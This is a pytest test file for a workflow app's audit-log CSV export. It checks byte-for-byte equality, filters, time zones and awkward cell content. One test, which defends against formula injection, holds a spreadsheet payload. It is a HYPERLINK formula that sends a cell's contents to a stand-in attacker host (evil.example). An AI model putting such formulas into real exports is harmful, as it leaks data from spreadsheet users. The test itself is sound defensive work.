"""The CSV export (`audit query --format csv`): csv.writer over streamed rows, byte for byte what it always wrote."""

from __future__ import annotations

import csv
import io
import os
from datetime import UTC, datetime
from pathlib import Path

import pytest
import sqlalchemy as sa
from conftest import ADMIN, PL, SG1, SG2, WR

from wijkflow import provenance, services
from wijkflow.app import App
from wijkflow.audit_columns import COLUMNS
from wijkflow.services.audit_export import csv_chunks, csv_rows
from wijkflow.spreadsheet import CsvWriter

INITIATE = ("coalitie", "analyse_visie", "lokaal_contract", "instrumenten_financiering")


# The goldens hold every event's origin and leaf: written here from a fixed workstation, not from whoever runs
# the tests (the origin is recorded as given, exactly as the CLI's own would be; provenance tests check that).
WORKSTATION = {"via": "cli", "os_user": "jan", "host": "werkplek-12"}


@pytest.fixture(autouse=True)
def _fixed_origin():
    with provenance.acting_through(WORKSTATION):
        yield


def by_csv_writer(app: App, **filters) -> str:
    """The plain way: every row through the one CSV writer (csv.writer, a cell with a CR quoted)."""
    out = io.StringIO()
    CsvWriter(out).writerows(csv_rows(app, **filters))
    return out.getvalue()


def by_chunks(app: App, **filters) -> str:
    return "".join(text for _, text in csv_chunks(app, **filters))


def raw_event(conn: sa.Connection, at: str, **cols) -> None:
    """An event written straight into the table, with whatever a tamperer or an old version left."""
    next_id = conn.execute(sa.text("SELECT coalesce(max(id), 0) + 1 FROM audit_event")).scalar()
    values = {"id": next_id, "type": "note", "actor_id": None, "aanpak_id": None, "from_phase": None, "to_phase": None,
              "reason": None, "evidence": None, "payload": "{}", "prev_hash": "0" * 64, "hash": "f" * 64, "leaf": "",
              **cols}
    if conn.dialect.name == "sqlite":
        values["at"] = at
    else:
        values["at"] = datetime.fromisoformat(at[:26]).replace(tzinfo=UTC)
    names = ", ".join(values)
    conn.execute(sa.text(f"INSERT INTO audit_event ({names}) VALUES ({', '.join(':' + n for n in values)})"),
                 values)


@pytest.fixture
def tricky(app, aanpak, clock):
    """Real flows (gate, override, an erased approver) and odd rows on DST change days."""
    zuid = services.create_aanpak(app, "Wijkaanpak Zuid", wijk="Zuid", gemeente="Hengelo", leader=PL,
                                  acting=PL)["slug"]
    for key in INITIATE:
        services.complete(app, aanpak, key, evidence=f'{key}, "definitief".pdf', acting=PL)
    services.approve(app, aanpak, "lokaal_contract_akkoord", comment='akkoord, "stuurgroep"', acting=SG2)
    services.advance(app, aanpak, acting=PL, reason='contract getekend,\n"door iedereen"')
    clock.forward(40)
    services.advance(app, zuid, acting=ADMIN, override=True, reason="bestuurlijk besluit")
    services.forget_person(app, SG2, acting=ADMIN)
    with app.db.write() as conn:
        conn.execute(sa.text("UPDATE person SET name = :n WHERE email = :e"),
                     {"n": 'Olde Heuvel, "Rob"\nvan Welbions', "e": SG1})
        conn.execute(sa.text("UPDATE aanpak SET wijk = :w, gemeente = :g WHERE slug = :s"),
                     {"w": 'Zuid, "De Kop"', "g": "Hof van Twente\r", "s": zuid})
        ids = {r.email: r.id for r in conn.execute(sa.text("SELECT id, email FROM person"))}
        noord = conn.execute(sa.text("SELECT id FROM aanpak WHERE slug = :s"), {"s": aanpak}).scalar()
        raw_event(conn, "2026-03-29 00:59:59.999999", actor_id=ids[PL], aanpak_id=noord,
                  reason="één, “twee”", evidence="")
        raw_event(conn, "2026-03-29 01:00:00.000000", actor_id=999, aanpak_id=999, reason="cr\ronly")
        raw_event(conn, "2026-10-25 00:30:00.500000", actor_id=ids[WR], payload="", type='odd,"type"')
        raw_event(conn, "2026-10-25 01:00:00.000000", payload="plain", from_phase='a"b', to_phase="c\nd")
        raw_event(conn, "2026-10-25 23:59:59.999900", payload='{"x":"gate"}', prev_hash="a,b", hash="c\nd")
        raw_event(conn, "2026-10-26 12:00:00.000000", payload='{"override":true}', actor_id=ids[ADMIN])
        raw_event(conn, "2001-01-01 12:00:00.000000", evidence="long before the others")
        if conn.dialect.name == "sqlite":  # what only SQLite's text column can hold
            raw_event(conn, "2026-07-01T10:00:00", reason="written with a T")
            raw_event(conn, "2026-07-01 10:00:00+00:00", reason="with an offset")
        raw_event(conn, "2026-11-01 09:00:00.000000", actor_id=ids[SG1], aanpak_id=noord, evidence="x.pdf")
        raw_event(conn, "2026-12-31 23:30:00.000000", reason="年末, 🎉")
    return aanpak


def test_the_fast_export_writes_exactly_what_csv_writer_wrote(app, tricky):
    old = by_csv_writer(app)
    assert old.count("(forgotten person)") >= 1 and '"Olde Heuvel, ""Rob""\nvan Welbions"' in old
    assert ",yes," in old and "lokaal_contract_akkoord: met by (forgotten person)" in old and "\r" in old
    assert by_chunks(app) == old


@pytest.mark.parametrize("filters", [
    {"aanpak": "wijkaanpak-noord"}, {"wijk": 'Zuid, "De Kop"'}, {"actor": PL}, {"types": ("phase_changed",)},
    {"since": "2026-03-29", "until": "2026-10-25"}, {"phase": "design"},
])
def test_the_fast_export_keeps_every_filter(app, tricky, filters):
    old = by_csv_writer(app, **filters)
    assert old
    assert by_chunks(app, **filters) == old


GOLDEN = Path(__file__).resolve().parent / "data" / "audit_export"


@pytest.mark.parametrize("zone", ["Europe/Amsterdam", "America/St_Johns", "Asia/Kathmandu", "UTC"])
def test_the_export_writes_the_bytes_it_always_wrote(db_url, clock, tmp_path, tricky, zone):
    """data/audit_export/: what the export wrote before it was csv.writer over streamed rows (the lines were
    built in SQL then), for the same history; in zones with half hours, quarter hours and without DST."""
    other = App.open(db_url, clock=clock, outbox_dir=str(tmp_path / "outbox"), timezone=zone)
    try:
        dialect = other.db.engine.dialect.name
        golden = GOLDEN / f"{dialect}-{zone.replace('/', '_')}.csv"
        if os.environ.get("WIJKFLOW_WRITE_GOLDEN"):  # after a deliberate change of what events hold
            golden.write_bytes(by_chunks(other).encode("utf-8"))
        expected = golden.read_bytes().decode("utf-8")  # "\r" kept
        assert by_chunks(other) == expected
        assert by_csv_writer(other) == expected
    finally:
        other.close()


def test_the_command_writes_the_header_and_the_same_rows(app, tricky, run):
    r = run("audit", "query", "--format", "csv")
    assert r.exit_code == 0, r.stderr
    assert r.stdout == ",".join(COLUMNS) + "\n" + by_csv_writer(app)
    r = run("audit", "query", "--format", "csv", "--aanpak", "wijkaanpak-noord", "--type", "nothing_like_it")
    assert r.exit_code == 2 and r.stdout == ""


def test_small_batches_and_an_empty_history(app):
    assert by_chunks(app) == by_csv_writer(app) == ""
    services.add_person(app, ADMIN, name="Ada, Admin", role="admin")
    assert by_csv_writer(app).count("\n") == 1
    assert "".join(t for _, t in csv_chunks(app, batch=1)) == by_csv_writer(app)




def test_the_export_quotes_would_be_formulas_and_raw_keeps_them(app, aanpak):
    """Issue 15: text cells a spreadsheet would run get a ' in front; raw=True (--raw-csv) writes them as stored."""
    with app.db.write() as conn:
        conn.execute(sa.text("UPDATE aanpak SET wijk = :w WHERE slug = :s"), {"w": "=1+1", "s": aanpak})
        raw_event(conn, "2026-12-31 23:45:00.000000", reason='=HYPERLINK("http://evil.example/?"&A1,"klik")',
                  evidence="-3.5", from_phase="@x", to_phase="+y", type="-z")
    safe = list(csv.reader(io.StringIO(by_chunks(app))))
    raw = list(csv.reader(io.StringIO("".join(t for _, t in csv_chunks(app, raw=True)))))
    assert len(safe) == len(raw)
    changed = {(s, r) for srow, rrow in zip(safe, raw, strict=True) for s, r in zip(srow, rrow, strict=True) if s != r}
    assert changed == {("'=1+1", "=1+1"), ("'@x", "@x"), ("'+y", "+y"), ("'-z", "-z"),
                       ("'" + '=HYPERLINK("http://evil.example/?"&A1,"klik")', '=HYPERLINK("http://evil.example/?"&A1,"klik")')}
    assert ["-3.5"] == [c for row in safe for c in row if c == "-3.5"]  # a plain number stays a number
